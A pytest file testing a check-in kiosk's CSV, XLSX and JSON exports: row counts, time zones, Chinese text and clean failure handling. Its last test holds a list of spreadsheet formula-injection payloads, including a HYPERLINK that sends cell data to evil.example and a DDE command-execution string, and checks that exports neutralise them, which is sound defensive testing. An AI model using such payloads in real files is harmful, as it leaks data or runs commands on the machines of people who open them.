"""Exports opened back (csv, openpyxl, json) and matched against `stats`; failures leave
no partial file."""

from __future__ import annotations

import csv
import json
import random
import subprocess
import sys
from collections import Counter
from collections.abc import Iterator
from datetime import datetime
from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner

import kiosk.formats.export
from kiosk.checkin.service import CheckinService
from kiosk.cli import load_commands
from kiosk.formats.export import ExportError, export
from kiosk.storage.store import Store
from tests.helpers.clocks import at
from tests.helpers.reads import reads

REPO = Path(__file__).resolve().parent.parent


@pytest.fixture
def busy(demo_db: Path) -> Iterator[Store]:
    """The demo database after a morning: admissions, refusals, an undo, an exit."""
    store = Store.open(demo_db)
    clock = at("09:05")
    service = CheckinService(store, clock, rng=random.Random(3))
    people = list(reads(store).people.everyone())
    codes = {a.attendee_id: service.badge_code(a.attendee_id) for a in people[:60]}
    first: list[str] = []
    for i, a in enumerate(people[:40]):
        store.set_station_name(f"desk-{i % 2 + 1}")
        r = service.check_in(codes[a.attendee_id], "opening")
        first.append(r.log_uuid)
        clock.advance(7)
    service.check_in(codes[people[0].attendee_id], "opening")  # already checked in
    service.check_in("https://example.com/poster", "opening")  # unknown code
    service.undo(first[39], operator="amy", reason="scanned the wrong badge")
    clock.set(at("10:20").now())
    service.check_out(codes[people[1].attendee_id], "opening")
    clock.set(at("10:50").now())
    store.set_station_name("room-a")
    for a in people[40:55]:
        service.check_in(codes[a.attendee_id], "energy-transition")
    clock.set(at("14:05").now())
    store.set_station_name("5f")
    for a in people[:60]:
        service.check_in(codes[a.attendee_id], "matchmaking")
    yield store
    store.close()


@pytest.fixture
def outdir(tmp_path: Path) -> Path:
    """An empty folder for exports (the database lives next to it)."""
    d = tmp_path / "out"
    d.mkdir()
    return d


def _now() -> datetime:
    return at("17:00").now()


def _read_csv(path: Path) -> list[dict[str, str]]:
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")  # Excel needs the BOM for Chinese
    with path.open(encoding="utf-8-sig", newline="") as f:
        return list(csv.DictReader(f))


def test_attendance_csv_matches_stats(busy: Store, tmp_path: Path) -> None:
    out = tmp_path / "attendance.csv"
    summary = export(busy, "attendance", "csv", out, now=_now())
    rows = _read_csv(out)
    stats = {s.session_id: s.admitted for s in reads(busy).presence.stats()}
    assert Counter(r["Session / 场次"] for r in rows) == +Counter(stats)
    assert summary.rows == len(rows) == sum(stats.values())
    assert stats["opening"] == 39 and stats["energy-transition"] == 15
    first = next(r for r in rows if r["Session / 场次"] == "opening")
    assert first["First arrival (Asia/Shanghai) / 首次签到时间"] == "2024-11-04 09:05:00"
    assert first["Station / 签到台"] == "desk-1"
    names_zh = {a.name_zh for a in reads(busy).people.everyone() if a.name_zh}
    assert names_zh & {r["Chinese name / 中文名"] for r in rows}  # Chinese intact


def test_attendance_xlsx_sheets_cells_and_summary(busy: Store, tmp_path: Path) -> None:
    out = tmp_path / "attendance.xlsx"
    export(busy, "attendance", "xlsx", out, now=_now())
    wb = openpyxl.load_workbook(out)
    event = busy.event()
    assert wb.sheetnames == ["Summary 汇总", *event.session_ids()]
    for s in reads(busy).presence.stats():
        ws = wb[s.session_id]
        assert ws.max_row - 1 == s.admitted
        assert ws.freeze_panes == "A2"
    ws = wb["opening"]
    header = [c.value for c in ws[1]]
    when = ws.cell(2, header.index("First arrival (Asia/Shanghai) / 首次签到时间") + 1).value
    assert isinstance(when, datetime) and when == datetime(2024, 11, 4, 9, 5)
    zh = {ws.cell(r, 3).value for r in range(2, ws.max_row + 1)} - {None}
    assert zh and zh <= {a.name_zh for a in reads(busy).people.everyone()}
    summary = [[c.value for c in row] for row in wb["Summary 汇总"].iter_rows()]
    flat = " ".join(str(v) for row in summary for v in row if v is not None)
    assert "Asia/Shanghai (UTC+08:00)" in flat and event.name_zh in flat
    table = {row[0]: row for row in summary if row[0] in event.session_ids()}
    assert table["opening"][5] == 39 and table["opening"][8] == 39


def test_scan_log_has_refusals_and_undos(busy: Store, tmp_path: Path) -> None:
    out = tmp_path / "scans.csv"
    export(busy, "scans", "csv", out, now=_now())
    rows = _read_csv(out)
    log = list(reads(busy).log.entries(kinds=("entry", "exit", "annul")))
    assert len(rows) == len(log)
    outcomes = Counter(r["Outcome / 结果"] for r in rows)
    assert outcomes["unknown_code"] == 1 and outcomes["already_checked_in"] == 1
    assert (
        outcomes["not_registered"]
        == sum(1 for e in log if e.outcome is not None and e.outcome.value == "not_registered")
        > 0
    )
    annul = next(r for r in rows if r["Kind / 类型"] == "annul")
    assert annul["Reason / 原因"] == "scanned the wrong badge"
    undone = next(r for r in rows if r["Log ID / 记录编号"] == annul["Undoes / 撤销的记录"])
    assert undone["Undone / 已撤销"] == "yes"
    assert sum(r["Undone / 已撤销"] == "yes" for r in rows) == 1


def test_json_is_utf8_with_event_and_local_times(busy: Store, tmp_path: Path) -> None:
    out = tmp_path / "a.json"
    export(busy, "attendance", "json", out, now=_now(), session_id="opening")
    raw = out.read_bytes()
    doc = json.loads(raw.decode("utf-8"))
    assert doc["event"]["timezone"] == "Asia/Shanghai" and doc["session"] == "opening"
    assert len(doc["rows"]) == 39
    assert {r["session"] for r in doc["rows"]} == {"opening"}
    assert doc["rows"][0]["first_arrival"] == "2024-11-04T09:05:00+08:00"
    zh = next(r["name_zh"] for r in doc["rows"] if r["name_zh"])
    assert zh.encode("utf-8") in raw  # not \\u-escaped


def test_no_shows_and_attendees(busy: Store, tmp_path: Path) -> None:
    out = tmp_path / "no-shows.xlsx"
    export(busy, "no-shows", "xlsx", out, now=_now())
    wb = openpyxl.load_workbook(out, read_only=True)
    for s in reads(busy).presence.stats():
        assert wb[s.session_id].max_row - 1 == len(reads(busy).presence.no_shows(s.session_id))
        if s.session_id == "matchmaking":  # restricted: only the registered are admitted
            assert wb[s.session_id].max_row - 1 == s.registered - s.admitted
    wb.close()
    people = tmp_path / "people.json"
    export(busy, "attendees", "json", people, now=_now())
    rows = json.loads(people.read_text("utf-8"))["rows"]
    assert len(rows) == reads(busy).people.count()
    first = reads(busy).people.attendee(rows[0]["attendee_id"])
    assert first is not None and rows[0]["sessions"] == list(first.sessions)
    registered = tmp_path / "matchmaking.csv"
    export(busy, "attendees", "csv", registered, now=_now(), session_id="matchmaking")
    listed = _read_csv(registered)
    stats = {s.session_id: s for s in reads(busy).presence.stats()}
    assert 0 < len(listed) == stats["matchmaking"].registered < reads(busy).people.count()
    assert all("matchmaking" in r["Sessions / 场次"].split("; ") for r in listed)


def test_minimal_leaves_out_email_and_phone(busy: Store, tmp_path: Path) -> None:
    for fmt in ("csv", "xlsx", "json"):
        out = tmp_path / f"m.{fmt}"
        export(busy, "attendees", fmt, out, now=_now(), minimal=True)
        if fmt == "csv":
            header = list(_read_csv(out)[0])
        elif fmt == "xlsx":
            header = [c.value for c in openpyxl.load_workbook(out)["attendees"][1]]
        else:
            header = list(json.loads(out.read_text("utf-8"))["rows"][0])
        text = " ".join(str(h) for h in header)
        assert "mail" not in text.lower() and "phone" not in text.lower()
        assert "name" in text.lower()


def test_unknown_session(busy: Store, outdir: Path) -> None:
    with pytest.raises(ExportError, match="unknown session 'gala'"):
        export(busy, "attendance", "csv", outdir / "x.csv", now=_now(), session_id="gala")
    assert list(outdir.iterdir()) == []


def test_unwritable_targets_fail_clearly(busy: Store, outdir: Path) -> None:
    blocker = outdir / "not-a-folder"
    blocker.write_text("a file")
    target = blocker / "out.csv"
    with pytest.raises(ExportError) as err:
        export(busy, "attendance", "csv", target, now=_now())
    assert str(err.value).startswith(str(target))
    missing = outdir / "no" / "such" / "out.xlsx"
    with pytest.raises(ExportError, match="does not exist"):
        export(busy, "attendance", "xlsx", missing, now=_now())
    with pytest.raises(ExportError, match="is a folder"):
        export(busy, "attendance", "csv", outdir, now=_now())
    assert sorted(p.name for p in outdir.iterdir()) == ["not-a-folder"]


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "json"])
def test_a_failed_export_leaves_the_old_file_and_no_part(
    busy: Store, outdir: Path, monkeypatch: pytest.MonkeyPatch, fmt: str
) -> None:
    out = outdir / f"scans.{fmt}"
    out.write_text("the previous export")
    monkeypatch.setattr(kiosk.formats.export, "PROGRESS_EVERY", 10)

    def cancel(done: int, total: int) -> None:
        raise KeyboardInterrupt  # e.g. the operator cancels in the GUI

    with pytest.raises(KeyboardInterrupt):
        export(busy, "scans", fmt, out, now=_now(), progress=cancel)
    assert out.read_text() == "the previous export"
    assert [p.name for p in outdir.iterdir()] == [out.name]


def test_full_disk_leaves_no_file(demo_db: Path, outdir: Path) -> None:
    """A file-size limit makes writes fail like a full disk (EFBIG) half-way."""
    out = outdir / "big.csv"
    script = f"""
import resource, signal, sys
from kiosk.formats.export import ExportError, export
from kiosk.storage.store import Store
from tests.helpers.clocks import at
from tests.helpers.reads import reads
store = Store.open({str(demo_db)!r})
store.event(); reads(store).presence.stats()
signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
resource.setrlimit(resource.RLIMIT_FSIZE, (4096, 4096))
try:
    export(store, "attendees", "csv", {str(out)!r}, now=at("17:00").now())
except ExportError as exc:
    print(exc)
    sys.exit(7)
"""
    proc = subprocess.run(
        [sys.executable, "-c", script], cwd=REPO, capture_output=True, text=True, timeout=60
    )
    assert proc.returncode == 7, proc.stderr
    assert proc.stdout.startswith(f"{out}: cannot write (")
    assert "nothing was written" in proc.stdout
    assert list(outdir.iterdir()) == []


def test_progress_reaches_the_end(busy: Store, tmp_path: Path) -> None:
    seen: list[tuple[int, int]] = []
    export(busy, "scans", "xlsx", tmp_path / "s.xlsx", now=_now(), progress=lambda d, t: seen.append((d, t)))  # fmt: skip
    assert (
        seen[-1][0]
        == seen[-1][1]
        == len(list(reads(busy).log.entries(kinds=("entry", "exit", "annul"))))
    )


def test_cli_export(busy: Store, tmp_path: Path) -> None:
    db = busy.path
    run = CliRunner().invoke
    r = run(load_commands(), ["export", "--db", db, "--out", str(tmp_path / "a.xlsx")])
    assert r.exit_code == 0, r.stderr
    admitted = sum(s.admitted for s in reads(busy).presence.stats())
    assert (
        r.stdout.strip() == f"{tmp_path / 'a.xlsx'}: {admitted} rows (attendance, xlsx, 6 sheets)"
    )
    r = run(load_commands(), ["export", "--db", db, "--out", str(tmp_path / "a.txt")])
    assert r.exit_code == 2 and "--format" in r.stderr
    r = run(
        load_commands(),
        ["export", "--db", db, "--what", "scans", "--format", "json", "--minimal",
         "--session", "opening", "--out", str(tmp_path / "scans.out")],
    )  # fmt: skip
    assert r.exit_code == 0, r.stderr
    doc = json.loads((tmp_path / "scans.out").read_text("utf-8"))
    assert {row["session"] for row in doc["rows"]} == {"opening"}
    bad = tmp_path / "missing-folder" / "x.csv"
    r = run(load_commands(), ["export", "--db", db, "--out", str(bad)])
    assert r.exit_code == 1
    assert r.stderr.startswith(f"error: {bad}: cannot write: the folder")
    assert "Traceback" not in r.stderr


FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Click me")', "+cmd|' /C calc'!A0",
            "-2+3", "@SUM(A1:A9)", "\tTabbed", "\rReturn"]  # fmt: skip


def test_csv_exports_neutralise_formulas(tmp_path: Path) -> None:
    from kiosk.checkin.bootstrap import init_database
    from kiosk.models.event import load_event
    from kiosk.models.records import AttendeeInput

    store = init_database(tmp_path / "evil.sqlite", load_event())
    service = CheckinService(store, at("09:05"), rng=random.Random(4))
    people = [
        AttendeeInput(name=f, organization=FORMULAS[(i + 1) % 6], title=FORMULAS[(i + 2) % 6],
                      phone="+1 555 0100", notes=f, external_id=f"E{i}", sessions=("opening",))
        for i, f in enumerate(FORMULAS)
    ]  # fmt: skip
    report = store.upsert_attendees(people, service.new_attendee_id, service.clock.now())
    for aid in report.ids[:3]:
        service.manual_check_in(aid, "opening")
    cells = 0
    for what in ("attendance", "scans", "no-shows", "attendees"):
        out = tmp_path / f"{what}.csv"
        export(store, what, "csv", out, now=_now())
        for row in _read_csv(out):
            for value in row.values():
                assert not value[:1] or value[0] not in "=+-@\t\r", (what, value)
                if value[:1] == "'" and value[1:2] in list("=+-@\t\r"):
                    cells += 1
                    assert value[1:] in [*FORMULAS, "+1 555 0100"]
    assert cells >= 16
    store.close()
